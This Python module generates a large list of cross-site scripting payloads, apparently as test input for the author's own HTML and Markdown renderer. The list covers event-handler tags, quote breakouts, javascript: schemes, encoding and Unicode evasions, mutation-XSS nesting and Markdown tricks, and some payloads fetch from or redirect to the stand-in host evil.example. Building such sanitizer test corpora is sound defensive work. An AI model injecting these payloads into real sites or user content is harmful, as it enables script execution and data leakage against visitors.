"""Texts that would run a script, or fetch from another host, wherever a page lets them through.

Made from the known classes: tags, attributes, addresses, encodings, text that changes when it is parsed twice,
and Markdown of each kind. Each opens a dialog, or asks `evil.example` for something.
"""

import itertools
from collections.abc import Iterator

ELSEWHERE = "evil.example"
RUN = "alert(1)"
FETCH = f"fetch('//{ELSEWHERE}/p')"

_EVENTS = (
    *("load", "error", "focus", "blur", "click", "mouseover", "mouseenter", "pointerover", "toggle", "begin"),
    *(
        "animationstart",
        "transitionend",
        "input",
        "wheel",
        "scroll",
        "beforetoggle",
        "contentvisibilityautostatechange",
    ),
)
_TAGS = (
    *(
        "img",
        "svg",
        "body",
        "video",
        "audio",
        "input",
        "details",
        "iframe",
        "object",
        "embed",
        "math",
        "style",
    ),
    *("a", "p", "marquee", "select", "button", "form", "table", "custom-tag"),
)
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java&#10;script:", "java&Tab;script:"),
    *("&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;", "javascript&#58;"),
    *(
        "\\javascript:",
        "javascript\\:",
        "%6Aavascript:",
        "vbscript:",
        "livescript:",
        "data:text/html,<script>",
    ),
    *(
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#",
        "data:image/svg+xml,<svg onload=",
        "feed:javascript:",
    ),
    *("view-source:javascript:", "blob:", "file:///", "http:javascript:", "jar:javascript:", "x:javascript:"),
)
_QUOTES = ('"', "'", "", "`", "&quot;", "&#34;", "&#x27;", '\\"', "“")


def _elements() -> Iterator[str]:
    for tag, event in itertools.product(_TAGS[:10], _EVENTS[:10]):
        yield f"<{tag} src=x autofocus tabindex=1 on{event}={RUN}>"
    for tag in _TAGS:
        yield f'<{tag} href="//{ELSEWHERE}/{tag}" src="//{ELSEWHERE}/{tag}" data="//{ELSEWHERE}/{tag}">words</{tag}>'
        yield f'<{tag} style="background:url(//{ELSEWHERE}/{tag})">words</{tag}>'
        yield f"<{tag}/onload={RUN}//"
        yield f"<{tag.upper()}\nONERROR\n=\n{RUN}\n>"
    yield from (
        f"<script>{RUN}</script>",
        f"<SCRIPT SRC=//{ELSEWHERE}/s.js></SCRIPT>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script\t>{RUN}</script\t>",
        f"<script/x>{RUN}</script x>",
        f'<script type="module">import "//{ELSEWHERE}/m.js"</script>',
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href=//{ELSEWHERE}/s.js />",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>words</text></a></svg>",
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x">',
        f'<svg><image href="//{ELSEWHERE}/i.png">',
        f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'>",
        f'<math><mtext href="javascript:{RUN}">words',
        f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
        f"<iframe src=//{ELSEWHERE}/></iframe>",
        f'<base href="//{ELSEWHERE}/">',
        f'<meta http-equiv="refresh" content="0;url=//{ELSEWHERE}/">',
        f'<link rel="stylesheet" href="//{ELSEWHERE}/s.css">',
        f'<link rel="prefetch" href="//{ELSEWHERE}/p">',
        f"<style>@import '//{ELSEWHERE}/s.css';</style>",
        f"<style>*{{background:url(//{ELSEWHERE}/b)}}</style>",
        f'<form action="//{ELSEWHERE}/"><button autofocus>words</button></form>',
        f'<button form="f" formaction="javascript:{RUN}">words</button>',
        f'<object data="javascript:{RUN}"></object>',
        f'<embed src="javascript:{RUN}">',
        f'<video poster="//{ELSEWHERE}/p.png" src="//{ELSEWHERE}/v.mp4" autoplay>',
        f"<video><source onerror={RUN} src=x></video>",
        f'<picture><source srcset="//{ELSEWHERE}/p.png"><img></picture>',
        f'<img srcset="//{ELSEWHERE}/p.png 1x">',
        f'<input type="image" src="//{ELSEWHERE}/p.png">',
        f'<body background="//{ELSEWHERE}/b.png">',
        f'<template shadowrootmode="open"><script>{RUN}</script></template>',
        f"<portal src=//{ELSEWHERE}/></portal>",
        f"<!--[if IE]><script>{RUN}</script><![endif]-->",
        f"<?xml-stylesheet href='//{ELSEWHERE}/s.css'?>",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<dialog open onclose={RUN}><form method=dialog><button autofocus>words",
        f"<div popover id=x onbeforetoggle={RUN}>words</div><button popovertarget=x>words</button>",
    )


def _out_of_attributes() -> Iterator[str]:
    for quote, event in itertools.product(_QUOTES, _EVENTS[:6]):
        yield f"words{quote} autofocus tabindex=1 on{event}={quote}{RUN}"
    for quote in _QUOTES:
        yield f"{quote}><script>{RUN}</script>"
        yield f"{quote}><img src=x onerror={RUN}>"
        yield f"{quote} style={quote}background:url(//{ELSEWHERE}/q)"
    for closing in (
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "</noscript>",
        "</select>",
        "-->",
        "]]>",
    ):
        yield f"{closing}<script>{RUN}</script>"
        yield f"{closing}<img src=//{ELSEWHERE}/c onerror={RUN}>"


def _encoded() -> Iterator[str]:
    script, image = f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>"
    for text in (script, image):
        yield text.replace("<", "&lt;").replace(">", "&gt;")
        yield text.replace("<", "&amp;lt;")
        yield "".join(f"&#{ord(sign)};" for sign in text)
        yield "".join(f"&#x{ord(sign):x};" for sign in text)
        yield "".join(f"&#{ord(sign):07}" for sign in text)
        yield "".join(f"%{ord(sign):02X}" for sign in text)
        yield "".join(f"\\u{ord(sign):04x}" for sign in text)
        yield text.replace("<", "＜").replace(">", "＞")
        yield text.replace("<", "\u2039").replace(">", "\u203a")
        yield text.replace("<", "+ADw-").replace(">", "+AD4-")
        yield text.replace("s", "\u017f")  # long s, which becomes s in capitals
        yield text.replace("i", "\u0131")
        yield text.replace("<", "<\u200b")
        yield text.replace(" ", "\u00a0")
        yield text.replace(" ", "/")
        yield text.replace("<", "\\<")
        yield f"\u202e{text}\u202c"
    yield from (
        "&#xe000;0&#xe001;",
        "&#57344;1&#57345;",
        "&#x0E000;2&#x0E001;",
    )  # the marks of our own renderer
    yield from ("\x02amp\x03#60;", "klzzwxh:0000", "wzxhzdk:0", "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03")


def _parsed_twice() -> Iterator[str]:
    """Harmless to one parser and harmful to the next, or once its pieces are moved."""
    image = f"<img src=x onerror={RUN}>"
    for outer, inner in itertools.product(
        ("math", "svg"),
        ("mtext", "mglyph", "annotation-xml", "title", "desc", "style", "foreignObject", "p", "table"),
    ):
        yield f"<{outer}><{inner}><style><!--</style>{image}-->"
    for raw in (
        "noscript",
        "noembed",
        "noframes",
        "xmp",
        "plaintext",
        "textarea",
        "title",
        "style",
        "iframe",
        "template",
    ):
        yield f'<{raw}><p title="</{raw}>{image}">'
    yield from (
        f"<form><math><mtext></form><form><mglyph><style></math>{image}",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
        f'<svg></p><style><a id="</style>{image}">',
        f'<p id="</p>{image}">',
        f"<table><td><select><table>{image}",
        f"<a><a href=javascript:{RUN}>words</a></a>",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    )


def _markdown() -> Iterator[str]:
    for scheme in _SCHEMES:
        yield f"[words]({scheme}{RUN})"
        yield f"[words](<{scheme}{RUN}>)"
        yield f"![words]({scheme}{RUN})"
        yield f"<{scheme}{RUN}>"
    for number, scheme in enumerate(_SCHEMES):
        yield f"[words][x{number}]\n\n[x{number}]: {scheme}{RUN}"
    for quote in _QUOTES:
        yield f"[words](https://a.example/{quote}onmouseover={quote}{RUN})"
        yield f'[words](https://a.example "t{quote} onmouseover={quote}{RUN}")'
        yield f"![words{quote} onerror={quote}{RUN}](x.png)"
        yield f"<https://a.example/{quote}onmouseover={RUN}>"
        yield f"<a@b.c{quote}onmouseover={RUN}>"
        yield f"```{quote}onclick={RUN}\nwords\n```"
    for wrapper in (
        "**{}**",
        "*{}*",
        "`{}`",
        "~~{}~~",
        "# {}",
        "> {}",
        "- {}",
        "1. {}",
        "    {}",
        "| a |\n|---|\n| {} |",
    ):
        yield wrapper.format(f"<img src=x onerror={RUN}>")
        yield wrapper.format(f"[words](javascript:{RUN})")
    yield from (
        f"![words](//{ELSEWHERE}/i.png)",
        f"![words](https://{ELSEWHERE}/i.png)",
        f"![words][i]\n\n[i]: https://{ELSEWHERE}/i.png",
        f"[![words](https://{ELSEWHERE}/i.png)](javascript:{RUN})",
        f"[words](//{ELSEWHERE}/)",
        f"[words](/\\{ELSEWHERE}/)",
        f"[a](javascript:{RUN} 'b')",
        f"[a]: javascript:{RUN}\n\n[a]",
        f"term\n: <script>{RUN}</script>",
        f"words[^x]\n\n[^x]: <img src=x onerror={RUN}>",
        f'words[^"onclick={RUN}]\n\n[^"onclick={RUN}]: note',
        f'## words {{#x" onclick="{RUN}}}',
        f"## words {{: onclick={RUN} }}",
        f"words{{: onclick={RUN} }}",
        f"[words](https://a.example){{: onclick={RUN} }}",
        f'*[HTML]: " onmouseover="{RUN}\n\nHTML',
        f'![words](picture:"onload={RUN})',
        f'![words" onload="{RUN}](picture:talk)',
        f'{{{{police name" onclick={RUN}}}}}',
        f"{{{{<script>{RUN}</script>}}}}",
        f"::: story <img src=x onerror={RUN}>\nWords.\n:::",
        f'::: story " onclick="{RUN}\nWords.\n:::',
        f"::: more <script>{RUN}</script>\nWords.\n:::",
        f"::: more </summary><img src=x onerror={RUN}>\nWords.\n:::",
        f"> [!NOTE]\n> <img src=x onerror={RUN}>",
        f"<!--check 0--><script>{RUN}</script>",
    )


def _scripts() -> Iterator[str]:
    for run in (
        FETCH,
        f"new Image().src='//{ELSEWHERE}/i'",
        f"location='//{ELSEWHERE}/'",
        f"open('//{ELSEWHERE}/')",
    ):
        yield f"<script>{run}</script>"
        yield f'<img src=x onerror="{run}">'
        yield f'<svg onload="{run}">'
        yield f"[words](javascript:{run.replace(' ', '%20')})"
        yield f"{{{{constructor.constructor({run!r})()}}}}"
        yield f"${{{run}}}"
        yield f"{{% {run} %}}"


PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        itertools.chain(
            _elements(), _out_of_attributes(), _encoded(), _parsed_twice(), _markdown(), _scripts()
        )
    )
)
LINES: tuple[str, ...] = tuple(dict.fromkeys(" ".join(payload.split()) for payload in PAYLOADS))
"""The same, each on one line, for titles, options, facts and names."""
